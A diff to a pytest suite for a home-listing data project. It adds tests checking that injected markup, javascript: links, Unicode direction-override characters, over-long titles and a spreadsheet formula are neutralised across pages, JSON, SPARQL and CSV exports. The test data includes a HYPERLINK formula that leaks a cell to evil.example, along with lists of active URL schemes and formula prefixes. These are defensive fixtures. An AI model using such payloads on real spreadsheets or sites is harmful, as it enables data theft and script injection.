@@ -19,8 +19,10 @@ import pytest
 from bs4 import BeautifulSoup
 
 from homefinder.building import finish
+from homefinder.change.calendar import BINDING
 from homefinder.fetch.replay import Replay
 from homefinder.harvesting import harvest_replay, sources_of
+from homefinder.pipeline.text import TITLE_LIMIT
 from homefinder.publish import publish
 from homefinder.refresh import project
 from homefinder.settings import ROOT, Settings
@@ -34,7 +36,8 @@ ACTIVE = "javascript:alert(4)"
 BACKWARDS = "Census of \u202eslrig dna syob\u2066 children"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"children in need census")'
 LONG = "Children " + "x" * 1_000_000
-"""Longer than a reader of CSV takes in, so the first is shorter."""
+READER_LIMIT = 131_072
+"""Characters of a cell that Python's reader of CSV takes in unless told otherwise."""
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 ACTIVE_SCHEMES = ("javascript:", "data:", "vbscript:")
 
@@ -68,13 +71,13 @@ def table(prefix: str) -> bytes:
     writer = csv.writer(out)
     writer.writerow(COLUMNS)
     for key, title in TITLES.items():
-        writer.writerow((key, (prefix + title)[:100_000], CLOSING, FORMULA, SCRIPT, ACTIVE, "2027-03-01"))
+        writer.writerow((key, prefix + title, CLOSING, FORMULA, SCRIPT, ACTIVE, "2027-03-01"))
     return out.getvalue().encode()
 
 
 @pytest.fixture(scope="module", autouse=True)
 def long_cells() -> Iterator[None]:
-    before = csv.field_size_limit(10_000_000)
+    before = csv.field_size_limit(READER_LIMIT)
     yield
     csv.field_size_limit(before)
 
@@ -104,7 +107,8 @@ def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
         environment.setenv("HOMEFINDER_HOME", str(home))
         finish(settings)
     titles = {row["title"] for row in rows(settings.data, "SELECT title FROM homes")}
-    assert not [title for title in titles if "<" in title or "\u202e" in title or len(title) > 100_000], titles
+    assert not [title[:80] for title in titles if "<" in title or "\u202e" in title or len(title) > TITLE_LIMIT]
+    assert any(title.startswith("Children xxx") and title.endswith("…") for title in titles)
     _poison(settings)
     return settings.data
 
@@ -121,6 +125,8 @@ def _poison(settings: Settings) -> None:
             ledger.execute("UPDATE records SET description = ?, url = ?, page_url = ?", (CLOSING, ACTIVE, ACTIVE))
             ledger.execute("UPDATE events SET sentence = ?, url = ?", (CLOSING, ACTIVE))
             ledger.execute("UPDATE calendar SET sentence = ?, url = ?", (SCRIPT, ACTIVE))
+            duty = ("UPDATE calendar SET kind = 'comply-by', binding = ? WHERE record_id = 'views:formula'", (BINDING,))
+            assert ledger.execute(*duty).rowcount, "the load must count a hostile title"
             ledger.execute("UPDATE publishers SET name = ?", (SCRIPT,))
             ledger.execute("UPDATE home_addresses SET url = ?, title = ?", (ACTIVE, SCRIPT))
         publish(ledger, settings)
@@ -165,6 +171,14 @@ def addresses(data: Path) -> tuple[str, ...]:
     )  # fmt: skip
 
 
+def test_a_title_of_a_megabyte_lands_shortened_and_is_told(data: Path) -> None:
+    asked = "SELECT source_id, message, url, locator FROM issues WHERE code = 'text-cut' AND record_key = 'long'"
+    told = [row for row in rows(data, asked) if row["message"].startswith("title ")]
+    assert {row["source_id"] for row in told} == set(KINDS)
+    assert all("cut after 500 characters" in row["message"] for row in told)
+    assert {row["locator"].partition("#")[2] for row in told} == {"row=5&column=title"}
+
+
 def with_form(address: str, form: str) -> str:
     path, mark, query = address.partition("?")
     return f"{path if path != '/' else '/index'}.{form}{mark}{query}" if path != "/" else ""
@@ -187,6 +201,18 @@ def test_no_page_runs_or_links_what_a_record_says(client: httpx.Client, addresse
                 assert not value.startswith(ACTIVE_SCHEMES), (address, str(item)[:200])
         shown += "alert(1)" in page.get_text()
     assert shown > len(addresses) / 2, "the words must be shown, as words"
+
+
+def test_no_page_holds_what_turns_the_order_of_words(client: httpx.Client, addresses: tuple[str, ...]) -> None:
+    turning = {*map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
+    told = BACKWARDS.translate(dict.fromkeys(map(ord, turning)))
+    shown = 0
+    for address in (*addresses, f"/search?q={quote(BACKWARDS)}", f"/homes?q={quote(BACKWARDS)}"):
+        text = client.get(address).text
+        assert not turning & set(text), address
+        shown += told in text
+    assert shown > 5
+    assert BACKWARDS in {row["title"] for row in client.get("/homes.json").json()["homes"]}
 
 
 def test_json_tells_the_words_as_they_were_published(client: httpx.Client, addresses: tuple[str, ...]) -> None:
@@ -238,6 +264,39 @@ def test_the_export_holds_no_formula(data: Path) -> None:
     cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
     assert f"'{FORMULA}" in cells
     assert not [cell[:80] for cell in cells if begins_a_formula(cell)]
+
+
+TITLES_ASKED = "SELECT ?title WHERE { ?home a <https://w3id.org/homefinder/def#Home> ; dcterms:title ?title }"
+
+
+@pytest.mark.parametrize(
+    "words", [("load", "--csv"), ("sparql", TITLES_ASKED, "--format", "csv")], ids=["load", "sparql"]
+)
+def test_no_command_prints_a_formula_as_csv(data: Path, words: tuple[str, ...]) -> None:
+    done = command(*words, data=data)
+    assert done.code == 0, done.err
+    cells = [cell for row in csv.reader(io.StringIO(done.out, newline="")) for cell in row]
+    assert f"'{FORMULA}" in cells
+    assert not [cell[:80] for cell in cells if begins_a_formula(cell)]
+
+
+def test_sparql_guards_its_csv_and_holds_each_value_exactly_in_other_forms(client: httpx.Client) -> None:
+    said = {form: client.get("/sparql", params={"query": TITLES_ASKED, "format": form}).text
+            for form in ("csv", "json", "tsv")}  # fmt: skip
+    cells = [cell for row in csv.reader(io.StringIO(said["csv"], newline="")) for cell in row]
+    assert f"'{FORMULA}" in cells
+    assert not [cell[:80] for cell in cells if begins_a_formula(cell)]
+    assert FORMULA in {row["title"]["value"] for row in json.loads(said["json"])["results"]["bindings"]}
+    assert '"' + FORMULA.replace('"', '\\"') + '"@en' in said["tsv"].splitlines()
+
+
+def test_a_mapping_set_is_for_programs_and_holds_each_value_exactly(data: Path) -> None:
+    out = data / "needs.sssom.tsv"
+    assert command("export", "sssom", "--out", out, data=data).code == 0
+    lines = [line for line in out.read_text(encoding="utf-8").splitlines(keepends=True) if not line.startswith("#")]
+    labels = {row["object_label"] for row in csv.DictReader(lines, delimiter="\t")}
+    assert FORMULA in labels
+    assert f"'{FORMULA}" not in labels
 
 
 def test_feeds_and_calendars_carry_text(client: httpx.Client) -> None:
